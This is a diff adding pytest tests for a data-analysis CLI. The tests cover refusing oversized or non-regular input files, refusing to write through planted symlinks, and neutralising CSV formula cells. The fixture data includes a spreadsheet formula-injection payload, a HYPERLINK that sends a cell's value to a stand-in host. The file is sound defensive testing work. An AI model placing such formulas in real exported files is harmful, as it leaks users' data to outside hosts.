@@ -1,0 +1,145 @@
+"""Issue #16: inputs the suite refuses before reading them (too large, not a regular file),
+`validate` going on after an unusable file, and `clean` never writing through a link or a
+formula a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import os
+from pathlib import Path
+
+import pytest
+
+from yosanalysis.cli import main
+from yosanalysis.errors import InputError
+from yosanalysis.io import MAX_INPUT_ENV, check_input
+
+INSPECTION = (
+    "Service,Inspection,Framework,Date,Theme,Item,Score (%)\n"
+    "Stockton-on-Tees,SQS 2013,SQS,25/11/2013,Protecting the public,Risk of harm,85\n"
+)
+AUDIT = (
+    "Service,Audit,Date,Case ref,Theme,Question,Answer,Auditor,Comment\n"
+    "Stockton,2013 Q3,01/02/2013,SYN-0001,Planning,Q1,Yes,Jo Specimen,"
+    "\"=HYPERLINK(\"\"http://x.invalid/?leak=\"\"&A1,\"\"open\"\")\"\n"
+    "Stockton,2013 Q3,01/02/2013,SYN-0002,Planning,Q1,No,Jo Specimen,-3.5\n"
+    "Stockton,2013 Q3,01/02/2013,SYN-0003,Planning,Q1,Yes,@Jo,+1 more\n"
+    "Stockton,2013 Q3,31/02/2013,SYN-0004,Planning,Q1,Yes,Jo Specimen,=1+1\n"
+)
+
+
+def run(capsys, *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def sparse(path: Path, size: int) -> Path:
+    with path.open("wb") as handle:
+        handle.truncate(size)
+    return path
+
+
+def test_a_1_gb_input_is_refused_from_its_size_alone(tmp_path, capsys):
+    big = sparse(tmp_path / "audit.csv", 1 << 30)
+    for command in (["validate", str(big)], ["clean", str(big), "--out", str(tmp_path / "o")]):
+        code, _, err = run(capsys, *command)
+        assert code == 2
+        assert err.strip().count("\n") == 0, "one message"
+        assert "audit.csv: is 1,073.7 MB, larger than the limit of 200 MB" in err
+        assert "--max-input-mb" in err and "Traceback" not in err
+
+
+def test_the_limit_can_be_raised_or_lowered(tmp_path, capsys, monkeypatch):
+    monkeypatch.delenv(MAX_INPUT_ENV, raising=False)
+    path = tmp_path / "scores.csv"
+    path.write_text(INSPECTION, encoding="utf-8")
+    code, _, err = run(capsys, "validate", str(path), "--max-input-mb", "0.0001")
+    assert code == 2 and "larger than the limit of 0.0001 MB" in err
+    assert MAX_INPUT_ENV not in os.environ
+    big = sparse(tmp_path / "big.csv", 3_000_000)
+    with pytest.raises(InputError, match="larger than the limit of 2 MB"):
+        check_input(big, max_mb=2)
+    check_input(big, max_mb=4)  # allowed
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need a POSIX system")
+def test_a_named_pipe_is_refused_and_validate_goes_on(tmp_path, capsys):
+    pipe = tmp_path / "audit.csv"
+    os.mkfifo(pipe)
+    good = tmp_path / "scores.csv"
+    good.write_text(INSPECTION, encoding="utf-8")
+    big = sparse(tmp_path / "big.csv", 300_000_000)
+    code, out, err = run(capsys, "validate", str(pipe), str(tmp_path), str(big), str(good))
+    assert code == 2
+    assert "audit.csv: is a named pipe, not a regular file" in err
+    assert "is a folder, not a file" in err
+    assert "big.csv: is 300.0 MB" in err
+    assert "rows read 1, kept 1, rejected 0" in out  # the good file after the bad ones
+    code, _, err = run(capsys, "clean", str(pipe), "--out", str(tmp_path / "out"))
+    assert code == 2 and "named pipe" in err
+
+
+def test_clean_through_a_planted_link_leaves_the_input_byte_identical(tmp_path, capsys):
+    inputs = tmp_path / "in"
+    inputs.mkdir()
+    audit = inputs / "audit.csv"
+    audit.write_text(AUDIT, encoding="utf-8")
+    before = hashlib.sha256(audit.read_bytes()).hexdigest()
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "audit.rejected.csv").symlink_to(audit)
+    code, _, err = run(capsys, "clean", str(audit), "--out", str(out))
+    assert code == 2 and "audit.rejected.csv: is a symbolic link" in err
+    assert hashlib.sha256(audit.read_bytes()).hexdigest() == before
+    assert not (out / "audit.clean.csv").exists(), "nothing written when one target is refused"
+    (out / "audit.rejected.csv").unlink()
+    (out / "audit.clean.csv").symlink_to(audit)
+    code, _, err = run(capsys, "clean", str(audit), "--out", str(out))
+    assert code == 2 and "audit.clean.csv: is a symbolic link" in err
+    assert hashlib.sha256(audit.read_bytes()).hexdigest() == before
+
+
+def formula_cells(path: Path) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would run as formulas: openpyxl, given each
+    cell's text as a spreadsheet would take it from the file, marks them with data type 'f'."""
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = openpyxl.Workbook().active
+    with path.open(encoding="utf-8", newline="") as handle:
+        for row in csv.reader(handle):
+            sheet.append(row)
+    found = []
+    for row in sheet.iter_rows():
+        for cell in row:
+            text = cell.value if isinstance(cell.value, str) else ""
+            if cell.data_type == "f" or (text[:1] in ("+", "-", "@", "\t", "\r") and
+                                         not _number(text)):
+                found.append(text)
+    return found
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_clean_writes_no_cell_a_spreadsheet_would_run(tmp_path, capsys):
+    path = tmp_path / "in" / "audit.csv"
+    path.parent.mkdir()
+    path.write_text(AUDIT, encoding="utf-8")
+    out = tmp_path / "out"
+    code, _, _ = run(capsys, "clean", str(path), "--out", str(out))
+    assert code == 1
+    for name in ("audit.clean.csv", "audit.rejected.csv"):
+        assert formula_cells(out / name) == [], name
+    with (out / "audit.clean.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["comment"] for r in rows] == [
+        "'=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"open\")", "-3.5", "'+1 more"]
+    assert rows[2]["auditor"] == "'@Jo"
+    rejected = (out / "audit.rejected.csv").read_text(encoding="utf-8")
+    assert "'=1+1" in rejected
